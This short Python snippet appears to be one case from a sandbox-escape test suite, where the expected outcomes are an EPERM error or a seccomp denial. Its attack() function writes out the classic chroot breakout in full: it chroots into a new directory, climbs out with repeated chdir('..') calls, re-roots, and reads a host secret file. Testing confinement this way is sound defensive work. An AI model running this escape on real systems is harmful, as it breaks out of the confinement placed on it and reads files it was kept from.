"""Breaks out as from a chroot: enters another inside it while it stands outside, and climbs."""

FULL = "EPERM", "seccomp"
NEEDS_ROOT = True


def attack():
    os.mkdir("jail")
    libcall("chroot", b"jail")
    for _ in range(64):
        os.chdir("..")
    libcall("chroot", b".")
    with open(HOST["secret"]) as file:
        return file.read()
